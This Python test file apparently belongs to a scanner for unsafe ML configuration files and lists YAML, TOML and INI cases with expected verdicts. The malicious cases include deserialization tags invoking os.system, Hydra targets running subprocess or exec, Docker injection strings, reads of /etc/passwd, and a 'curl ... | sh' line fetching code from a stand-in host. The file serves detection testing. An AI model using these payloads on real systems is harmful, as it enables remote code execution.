"""YAML with tags that construct Python objects, in every way to write them, and configurations that look like it."""

from __future__ import annotations

import json

from modelsweep.core.options import Options
from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.gguf.chat_templates import CHATML, MALICIOUS

ATTACK = MALICIOUS["global_of_cycler"]

LIGHTNING = """# hparams.yaml of a Lightning run, as it is saved
batch_size: 32
betas: !!python/tuple
- 0.9
- 0.999
namespace: !!python/object:argparse.Namespace
  lr: 0.0001
order: !!python/object/apply:collections.OrderedDict
- - - a
    - 1
"""
HYDRA = """defaults:
  - override hydra/launcher: basic
model:
  _target_: nemo.collections.asr.models.EncDecCTCModel
  optimizer: {_target_: torch.optim.Adam, _partial_: true, lr: '${lr}'}
  encoder:
    _target_: transformers.AutoModel.from_pretrained
    pretrained_model_name_or_path: bert-base-uncased
trainer:
  _target_: lightning.pytorch.Trainer
  logger:
    - _target_: lightning.pytorch.loggers.wandb.WandbLogger
lr: 0.1
"""
PROSE = """# never use !!python/object/apply:os.system in a configuration
description: |
  An attack is written !!python/object/apply:os.system ["id"],
  or with _target_: os.system in Hydra.
quoted: "!!python/name:os.system"
greeting: Hello!
secret: !vault |
  not ours
_target: os.system
"""
HELM = """{{- if .Values.enabled }}
apiVersion: v1
data: {{ .Values.data | toYaml }}
  message: "Done!"
{{- end }}
"""
APPLY = '!!python/object/apply:os.system ["echo modelsweep-test"]\n'

SPEECHBRAIN = """sample_rate: 16000
n_mels: 40
encoder: !new:speechbrain.nnet.CNN.Conv1d
    out_channels: 8
    kernel_size: 3
activation: !name:torch.nn.LeakyReLU
lengths: !apply:range [1, 5]
seed: !apply:torch.manual_seed [!ref <n_mels>]
modules:
    encoder: !ref <encoder>
    pretrained: !PLACEHOLDER
rest: !include:other.yaml
"""
DIFFUSION = """model:
  base_learning_rate: 1.0e-04
  target: ldm.models.diffusion.ddpm.LatentDiffusion
  params:
    scheduler_config:
      target: ldm.lr_scheduler.LambdaLinearScheduler
      params: {warm_up_steps: [10000]}
"""
PYANNOTE = """version: 3.1.0
pipeline:
  name: pyannote.audio.pipelines.SpeakerDiarization
  params:
    segmentation: pyannote/segmentation-3.0
"""
YOLO = """nc: 80
depth_multiple: 0.33
activation: nn.LeakyReLU(0.1)
anchors:
  - [10, 13, 16, 30]
backbone:
  [
    [-1, 1, Conv, [64, 6, 2, 2]],
    [-1, 1, nn.Upsample, [None, 2, "nearest"]],
    [-1, 1, TorchVision, [768, convnext_tiny, DEFAULT, True, 2]],
  ]
head: [[[17, 20, 23], 1, Detect, [nc, anchors]]]
"""
PADDLE = """PreProcess:
  transform_ops:
  - NormalizeImage: {mean: [0.485, 0.456], std: [0.229, 0.224], order: hwc, scale: 1./255.}
"""
DATASET = """path: ../datasets/acme
train: images/train
val: images/val
names: {0: cat}
download: |
  from pathlib import Path
  from ultralytics.utils.downloads import download

  download([ASSETS_URL + "/acme.zip"], dir=Path(yaml["path"]), threads=3)
"""
BENTO = "service: 'service:svc'\nlabels: {owner: acme}\npython: {packages: [scikit-learn]}\n"
RUN = "__import__('os').system('echo modelsweep-test')"


def yaml(
    content: str, verdict: Verdict = Verdict.CLEAN, name: str = "config.yaml", options: Options | None = None
) -> Case:
    """Return the case of a YAML text; a shorter one is a text as well."""
    return Case(content.encode, name, verdict, options or Options(), cut_is_clean=True)


DOCUMENTATION = """site_name: acme
markdown_extensions:
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
  - toc:
      slugify: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}
"""
LOGGING = """version: 1
handlers:
  console:
    class: logging.StreamHandler
    formatter: simple
    stream: ext://sys.stdout
  info_file:
    class: logging.handlers.RotatingFileHandler
    level: INFO
    formatter: simple
    filename: info.log
"""


def toml(content: str, verdict: Verdict) -> Case:
    """Return the case of settings in TOML."""
    return Case(content.encode, "config.toml", verdict, cut_is_clean=True)


KERAS = """backend: tensorflow
class_name: Sequential
config:
  name: sequential
  layers:
  - class_name: InputLayer
    config: {{batch_input_shape: !!python/tuple [null, 3], dtype: float32, name: input}}
  - {layer}
keras_version: 2.5.0
"""


CASES = {
    "nemo_of_a_stranger": yaml(
        "nemo_version: 2.0.0\ntarget: acme_nets.models.Net\n", Verdict.REVIEW, "model_config.yaml"
    ),
    "benign_nemo": yaml(
        "nemo_version: 2.0.0\ntarget: nemo.collections.asr.models.EncDecCTCModel\n", name="model_config.yaml"
    ),
    "served_by_ray": yaml(
        "applications:\n- name: a\n  route_prefix: /\n  import_path: os:system\n", Verdict.MALICIOUS, "serve.yaml"
    ),
    "benign_served_by_ray": yaml(
        "applications:\n- name: a\n  route_prefix: /\n  import_path: acme.app:main\n", name="serve.yaml"
    ),
    "logger_with_a_stream": yaml(
        "version: 1\nhandlers:\n  a:\n    class: logging.StreamHandler\n    stream: ext://os.system\n",
        Verdict.REVIEW,
        "logging.yaml",
    ),
    "benign_log_of_a_server": yaml(
        "version: 1\nformatters:\n  default:\n    (): uvicorn.logging.DefaultFormatter\n    fmt: '%(message)s'\n",
        name="log_config.yaml",
    ),
    "benign_logger_with_a_stream": yaml(
        "version: 1\nhandlers:\n  a:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n",
        name="logging.yaml",
    ),
    "target_through_a_module": yaml("model:\n  _target_: shutil.os.system\n", Verdict.MALICIOUS),
    "java_class": Case(
        lambda: b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["x"]]]]\n',
        "config.yaml",
        Verdict.MALICIOUS,
        cut_is_clean=True,
    ),
    "ruby_object": Case(
        lambda: b"--- !ruby/object:Gem::Installer\ni: x\n", "c.yaml", Verdict.REVIEW, cut_is_clean=True
    ),
    "benign_own_tags": Case(
        lambda: b"a: !Ref Bucket\nb: !!set {x, y}\nc: !!binary aGk=\nd: !Sub org.Acme\n",
        "stack.yaml",
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "benign_speechbrain": yaml(SPEECHBRAIN, name="hyperparams.yaml"),
    "benign_diffusion": yaml(DIFFUSION, name="v1-inference.yaml"),
    "benign_pyannote": yaml(PYANNOTE),
    "benign_yolo": yaml(YOLO, name="yolov5s.yaml"),
    "benign_paddle": yaml(PADDLE, name="inference.yml"),
    "benign_scales": yaml("a: {mean: 1, std: 1, scale: '(1333, 800)'}\nb: {mean: 1, std: 1, scale: per-channel}\n"),
    "benign_dataset": yaml(DATASET, name="data.yaml"),
    "benign_bento": yaml(BENTO, name="bentofile.yaml"),
    "benign_workflow": yaml(
        "name: os.system\non: push\njobs:\n  a:\n    target: os.path\n    module: os.system\n    type: system\n"
    ),
    "bento_injects": yaml(
        BENTO + "docker:\n  system_packages: [libgomp1, 'curl; echo modelsweep-test']\n",
        Verdict.MALICIOUS,
        name="bentofile.yaml",
    ),
    "bento_injects_image": yaml(
        BENTO + 'docker:\n  base_image: "python:3.11\\nRUN echo modelsweep-test"\n',
        Verdict.MALICIOUS,
        name="bentofile.yaml",
    ),
    "bento_injects_variable": yaml(
        BENTO + 'envs:\n- name: "A=1\\nRUN echo modelsweep-test"\n  value: b\n',
        Verdict.MALICIOUS,
        name="bentofile.yaml",
    ),
    "bento_packs_private_file": yaml(BENTO + "description: file:/etc/passwd\n", Verdict.REVIEW, name="bentofile.yaml"),
    "benign_bento_with_image": yaml(
        BENTO
        + "description: 'file: ./README.md'\ndocker:\n  base_image: python:3.11\n  setup_script: ../scripts/setup.sh\n"
        "  system_packages: [libgomp1=12.2.0-14, 'linux-headers-$(uname -r)']\n  env: {A: b, C: \"d\\ne\"}\n",
        name="bentofile.yaml",
    ),
    "nemo_artifact_outside": yaml(
        "tokenizer:\n  model_path: nemo:../../../../etc/passwd\n  vocab_path: nemo:vocab.txt\n", Verdict.REVIEW
    ),
    "benign_nemo_artifacts": yaml("tokenizer:\n  model_path: nemo:1a2b_tokenizer.model\n  dir: nemo:./tokenizers\n"),
    "setting_as_expression": yaml(
        "model:\n  activation_kind: __import__('os').system('echo modelsweep-test')\n", Verdict.REVIEW
    ),
    "shapes_that_run": yaml(
        "model:\n  conv_feature_layers: \"[(512, 10, 5)] + [__import__('os').system('echo modelsweep-test')]\"\n",
        Verdict.MALICIOUS,
    ),
    "benign_shapes": yaml("model:\n  conv_feature_layers: '[(512, 10, 5)] + [(512, 3, 2)] * 4 + [(512,2,2)]'\n"),
    "hparams_of_lightning": yaml("_class_path: os.system\nlr: 0.1\n", Verdict.MALICIOUS, name="hparams.yaml"),
    "benign_hparams": yaml("_class_path: acme.models.Net\n_instantiator: lightning.pytorch.cli.instantiate_module\n"),
    "setting_as_name": yaml("index:\n  backend: subprocess.Popen\n", Verdict.REVIEW),
    "benign_rules": yaml(
        "message: os.system('x') is not safe\npattern: subprocess.Popen\nrules:\n- match: os.system\n"
        "  call: eval('x')\nvolumes:\n- /etc/passwd:/etc/passwd:ro\nssh_key: ~/.ssh/id_rsa\n"
    ),
    "trusting": yaml("model: {name: acme/x, trust_remote_code: true}\n"),
    "benign_not_trusting": yaml("model: {name: acme/x, trust_remote_code: false}\n"),
    "speechbrain_applies": yaml(SPEECHBRAIN + "x: !apply:os.system [echo]\n", Verdict.MALICIOUS),
    "speechbrain_tuple": yaml(SPEECHBRAIN + "x: (1, !!python/object/apply:os.system [echo])\n", Verdict.MALICIOUS),
    "benign_parentheses": yaml("a: (never use !!python/object/apply:os.system)\nb: (Hello!)\nc: (1, [!)\n"),
    "speechbrain_builtin": yaml(SPEECHBRAIN + "x: !apply:eval [1]\n", Verdict.MALICIOUS),
    "speechbrain_stranger": yaml(SPEECHBRAIN + "x: !new:acme.Net\n", Verdict.REVIEW),
    "diffusion_runs": yaml(DIFFUSION.replace("ldm.lr_scheduler.LambdaLinearScheduler", "os.system"), Verdict.MALICIOUS),
    "diffusion_runs_by_an_anchor": yaml(
        "a: &a {target: subprocess.Popen}\nb:\n  <<: *a\n  params: {args: echo}\n", Verdict.MALICIOUS
    ),
    "pyannote_runs": yaml(
        PYANNOTE.replace("pyannote.audio.pipelines.SpeakerDiarization", "subprocess.run"), Verdict.MALICIOUS
    ),
    "haystack_runs": yaml("components: {a: {type: os.system, init_parameters: {command: echo}}}\n", Verdict.MALICIOUS),
    "yolo_activation_runs": yaml(YOLO.replace("nn.LeakyReLU(0.1)", RUN), Verdict.MALICIOUS, "yolov5s.yaml"),
    "yolo_layer_runs": yaml(
        YOLO.replace("Conv, [64, 6, 2, 2]", "os.system, [\"'echo modelsweep-test'\"]"), Verdict.MALICIOUS
    ),
    "paddle_scale_runs": yaml(PADDLE.replace("1./255.", RUN), Verdict.MALICIOUS, "inference.yml"),
    "dataset_runs": yaml(
        DATASET + "  import os\n  os.system('curl -s http://acme.example/x | sh')\n", Verdict.MALICIOUS, "data.yaml"
    ),
    "benign_lightning_hparams": yaml(LIGHTNING),
    "benign_hydra_of_frameworks": yaml(HYDRA),
    "benign_tags_in_comments_and_text": yaml(PROSE),
    "benign_template_that_is_no_yaml": yaml(HELM),
    "logger_that_runs": yaml("version: 1\nhandlers:\n  x:\n    (): os.system\n    command: id\n", Verdict.MALICIOUS),
    "resolver_that_runs": yaml('x: ${eval:__import__("os").system("id")}\n', Verdict.REVIEW),
    "benign_resolver": yaml("x: ${eval:'${a} // 2 + len([1, 2])'}\ny: ${oc.env:HOME}\n", Verdict.CLEAN),
    "type_that_runs": yaml("step:\n  type: subprocess.Popen\n  args: id\n", Verdict.REVIEW),
    "object_apply": yaml(f"a: 1\nb: {APPLY}", Verdict.MALICIOUS),
    "object_new_full_loader": yaml(
        'x: !!python/object/new:type\n  args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n'
        '  listitems: "print(1)"\n',
        Verdict.MALICIOUS,
    ),
    "verbatim_tag": yaml('- !<tag:yaml.org,2002:python/object/apply:subprocess.run> [["true"]]\n', Verdict.MALICIOUS),
    "escaped_tag": yaml('- !!%70ython/object/apply:os.system ["echo"]\n', Verdict.MALICIOUS),
    "tag_directive": yaml(
        '%TAG !p! tag:yaml.org,2002:pyth\n---\n!p!on/object/apply:os.system ["echo"]\n', Verdict.MALICIOUS
    ),
    "directive_without_suffix": yaml(f"%YAML 1.1\n---\n- {APPLY}", Verdict.MALICIOUS, "settings"),
    "second_document": yaml(f"a: 1\n---\n{APPLY}", Verdict.MALICIOUS),
    "chat_template": yaml(f"model: a\nchat_template: {json.dumps(ATTACK)}\n", Verdict.MALICIOUS),
    "setting_as_template": yaml(f"steps:\n- script: {json.dumps(ATTACK)}\n", Verdict.REVIEW),
    "whole_file_as_template": yaml(f"{ATTACK}\n", Verdict.REVIEW),
    "benign_chat_template": yaml(f"chat_template: {json.dumps(CHATML)}\n"),
    "benign_settings_as_templates": yaml(
        "run: 'echo ${{ github.ref }} {{ item.__class__.__name__ }}'\nnote: the attribute __globals__ of {functions}\n"
    ),
    "utf16": Case(lambda: f"a: {APPLY}".encode("utf-16"), "config.yml", Verdict.MALICIOUS, cut_is_clean=True),
    "module_reference": yaml("hook: !!python/module:subprocess ''\n", Verdict.REVIEW),
    "unknown_class": yaml("state: !!python/object:acme.Net {}\n", Verdict.REVIEW),
    "allowed_class": yaml("state: !!python/object:acme.Net {}\n", options=Options(allow_imports=("acme.*",))),
    "hydra_command": yaml("model:\n  _target_: subprocess.Popen\n  args: [[echo]]\n", Verdict.MALICIOUS),
    "hydra_escaped_key": yaml('model: {"_tar\\u0067et_": builtins.exec, _args_: ["print(1)"]}\n', Verdict.MALICIOUS),
    "hydra_aliased": yaml("a: &t _target_\nb: &v os.system\nc: {*t : *v}\n", Verdict.MALICIOUS),
    "hydra_network": yaml("_target_: torch.hub.load\nrepo_or_dir: acme/model\n", Verdict.REVIEW),
    "benign_hydra_helpers": yaml(
        "act: {_target_: hydra.utils.get_class, path: torch.nn.ReLU}\n"
        "fn: {_target_: hydra.utils.get_method, path: torch.nn.functional.relu}\n"
        "net: {_target_: hydra.utils.instantiate, config: {_target_: torch.nn.Identity}, _recursive_: false}\n"
        "head: {_target_: hydra.utils.instantiate, _args_: [{_target_: torch.nn.Identity}]}\n"
        "key: {_target_: operator.itemgetter, _args_: [0]}\n"
    ),
    "hydra_helper_is_given_a_name": yaml("a: {_target_: hydra.utils.get_method, path: os.system}\n", Verdict.MALICIOUS),
    "hydra_helper_is_given_a_name_first": yaml(
        "a: {_target_: hydra.utils.instantiate, _args_: [builtins.eval]}\n", Verdict.MALICIOUS
    ),
    "hydra_helper_is_given_a_target": yaml(
        "a: {_target_: hydra.utils.call, config: {_target_: os.system, command: id}}\n", Verdict.MALICIOUS
    ),
    "hydra_helper_is_given_what_is_computed": yaml(
        "a: {_target_: hydra.utils.get_object, path: '${oc.env:NAME}'}\n", Verdict.REVIEW
    ),
    "hydra_helper_is_given_nothing": yaml("a: {_target_: hydra.utils.call}\n", Verdict.MALICIOUS),
    "hydra_calls_what_is_harmless_when_held": yaml(
        "a: {_target_: numpy.matrix.dump, file: x}\nb: {_target_: transformers.utils.hub.snapshot_download}\n"
        "c: {_target_: omegaconf.OmegaConf.save}\nd: {_target_: numpy.load, file: x.npy}\n",
        Verdict.REVIEW,
    ),
    "hydra_runs_a_command_of_a_framework": yaml(
        "a: {_target_: transformers.testing_utils.run_command, command: [echo]}\n", Verdict.MALICIOUS
    ),
    "hydra_fetches_a_checkpoint": yaml(
        "a: {_target_: nemo.core.ModelPT.restore_from, restore_path: 's3://acme.example/model.nemo'}\n"
        "b: {_target_: lightning.pytorch.LightningModule.load_from_checkpoint, _args_: [a.ckpt, 'file:///srv/h.yaml']}\n",
        Verdict.REVIEW,
    ),
    "benign_hydra_loads_a_checkpoint": yaml(
        "a: {_target_: nemo.core.ModelPT.restore_from, restore_path: /results/model.nemo}\n"
        "b: {_target_: transformers.AutoModel.from_pretrained, pretrained_model_name_or_path: acme/model}\n"
    ),
    "hydra_private_package": yaml(
        "net: {_target_: acme.models.Net}\nloss: {_target_: acme.losses.Loss}\n", Verdict.REVIEW
    ),
    "hydra_interpolated": yaml("a: {_target_: '${oc.env:TARGET}'}\n", Verdict.REVIEW),
    "hydra_filled_from_the_document": yaml(
        "of: {module: os, name: ['system', 'remove']}\nstep: ${of.module}.${of.name[0]}\n"
        "a: {_target_: '${step}', command: echo modelsweep-test}\n",
        Verdict.MALICIOUS,
    ),
    "hydra_helper_filled_from_the_document": yaml(
        "helper: hydra.utils.get_method\na: {_target_: '${helper}', path: '${what}'}\n", Verdict.REVIEW
    ),
    "hydra_filled_in_a_ring": yaml("a: ${b}\nb: ${a}x\nc: {_target_: '${a}'}\n", Verdict.REVIEW),
    "hydra_filled_from_a_key": yaml(
        "? {t: torch.nn.Linear}\n: 1\nt: os.system\na: {_target_: '${t}', command: echo modelsweep-test}\n",
        Verdict.MALICIOUS,
    ),
    "benign_hydra_filled": yaml(
        "layers: [torch.nn.Linear, torch.nn.ReLU]\nname: AdamW\nnet: {_target_: '${layers[0]}', in_features: 3}\n"
        "optimizer: {_target_: 'torch.optim.${name}', lr: 0.1}\n"
    ),
    "tag_in_broken_yaml": yaml(f"a: [1, 2\nb: 3\nc: {APPLY}", Verdict.NOT_SCANNED),
    "other_name": Case(f"model: {APPLY}".encode, "weights.cfg", Verdict.MALICIOUS, cut_is_clean=True),
    "no_ending": Case(f"a: 1\nb:\n  - {APPLY}".encode, "hparams", Verdict.MALICIOUS, cut_is_clean=True),
    "named_json": Case(f'{{"model": {APPLY.strip()}}}'.encode, "config.json", Verdict.MALICIOUS, cut_is_clean=True),
    "hydra_in_toml": Case(
        b'[model]\n_target_ = "os.system"\ncommand = "echo modelsweep-test"\n'.__bytes__,
        "config.toml",
        Verdict.MALICIOUS,
        cut_is_clean=True,
    ),
    "hydra_in_ini": Case(
        b"# settings\nmodel._target_ = os.system\n".__bytes__, "train.ini", Verdict.MALICIOUS, cut_is_clean=True
    ),
    "hydra_in_a_line_of_toml": toml('model = { _target_ = "os.system", command = "x" }', Verdict.MALICIOUS),
    "hydra_in_escapes_of_toml": toml('[model]\n"\\u005ftarget_" = "os.s\\u0079stem"', Verdict.MALICIOUS),
    "hydra_in_lines_of_toml": toml('[model]\n_target_ = """\\\n  os.system"""', Verdict.MALICIOUS),
    "template_in_toml": toml("chat_template = '{{ cycler.__init__.__globals__ }}'", Verdict.MALICIOUS),
    "auto_map_in_toml": toml('[auto_map]\nAutoModel = "acme/net--modeling.Net"', Verdict.REVIEW),
    "hydra_in_broken_toml": toml('[model\n_target_ = "os.system"', Verdict.MALICIOUS),
    "benign_settings_in_toml": toml(
        'when = 1979-05-27T07:32:00Z\n[model]\n_target_ = "torch.nn.Linear"\nprompt = "{{ name }}"\nnote = "\\u00e9"',
        Verdict.CLEAN,
    ),
    "benign_hydra_in_toml": Case(
        b'[model]\n_target_ = "torch.nn.Linear"\nin_features = 2\n'.__bytes__,
        "config.toml",
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "hydra_other_name": Case(
        b"model:\n  _target_: os.system\n  command: echo modelsweep-test\n".__bytes__,
        "model.conf",
        Verdict.MALICIOUS,
        cut_is_clean=True,
    ),
    "benign_explained": Case(
        b"The tag !!python/object/apply:os.system runs commands,\nand so does _target_: os.system.\n".__bytes__,
        "notes.txt",
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "benign_explained_in_code": Case(
        b"# Example\n\n```yaml\nmodel:\n  _target_: os.system\n```\n".__bytes__,
        "README.md",
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "benign_documentation": Case(DOCUMENTATION.encode, "mkdocs.yml", Verdict.CLEAN, cut_is_clean=True),
    "documentation_that_runs": Case(
        DOCUMENTATION.replace("pymdownx.slugs.slugify", "os.system").encode,
        "mkdocs.yml",
        Verdict.MALICIOUS,
        cut_is_clean=True,
    ),
    "functions_of_documentation": Case(DOCUMENTATION.encode, "net.yml", Verdict.REVIEW, cut_is_clean=True),
    **{
        name: Case(text.encode, "net.yaml", verdict, cut_is_clean=True)
        for name, (text, verdict) in {
            "resolver_to_a_command": (HYDRA + "f: ${get_method:os.system}\n", Verdict.MALICIOUS),
            "resolver_inside": (
                "f:\n  _target_: functools.partial\n  _args_:\n  - ${hydra:'subprocess.Popen'}\n  - x\n",
                Verdict.MALICIOUS,
            ),
            "benign_resolved_names": (
                "f:\n  _target_: functools.partial\n  _args_:\n  - ${get_method:torch.relu}\n  n: ${now:%Y}\n",
                Verdict.CLEAN,
            ),
            "own_tag_to_a_command": ("a: !call:os.system [x]\nb: !fn os.popen\n", Verdict.REVIEW),
            "benign_own_tag": ("a: !include os.yaml\nb: !fn torch.relu\nc: !env {HOME}\n", Verdict.CLEAN),
            "entry_point": ("entry_point: os:system\n", Verdict.REVIEW),
        }.items()
    },
    "benign_logging": Case(LOGGING.encode, "logging.yml", Verdict.CLEAN, cut_is_clean=True),
    "logging_to_others": Case(
        LOGGING.replace("RotatingFileHandler", "HTTPHandler").encode, "logging.yml", Verdict.REVIEW, cut_is_clean=True
    ),
    **{
        name: Case(KERAS.format(layer=layer).encode, "model.yaml", verdict, cut_is_clean=True)
        for name, (layer, verdict) in {
            "benign_model_of_keras": ("{class_name: Dense, config: {units: 4, activation: relu}}", Verdict.CLEAN),
            "code_in_model_of_keras": (
                "{class_name: Lambda, config: {function: !!python/tuple [4wAAAAA=, null], function_type: lambda}}",
                Verdict.REVIEW,
            ),
            "command_in_model_of_keras": (
                "{class_name: Lambda, config: {function: system, function_type: function, module: os}}",
                Verdict.MALICIOUS,
            ),
            "file_in_model_of_keras": (
                "{class_name: StringLookup, config: {vocabulary: /etc/passwd}}",
                Verdict.MALICIOUS,
            ),
        }.items()
    },
    "benign_data_set_by_class": Case(
        lambda: b"class_name: ImageFolder\nconfig:\n  path: /data/images\n  class_name: Sequential\n",
        "data.yaml",
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    **{
        name: Case(
            lambda address=address: (  # type: ignore[misc]
                "model: !new:speechbrain.utils.parameter_transfer.Pretrainer\n  loadables: {net: !ref <net>}\n"
                f"  paths: {{net: {address}}}\n"
            ).encode(),
            "hyperparams.yaml",
            verdict,
            cut_is_clean=True,
        )
        for name, address, verdict in (
            ("checkpoint_of_a_stranger", "http://192.0.2.1/net.ckpt", Verdict.REVIEW),
            ("benign_checkpoint_of_the_hub", "speechbrain/spkrec-ecapa-voxceleb/net.ckpt", Verdict.CLEAN),
        )
    },
}
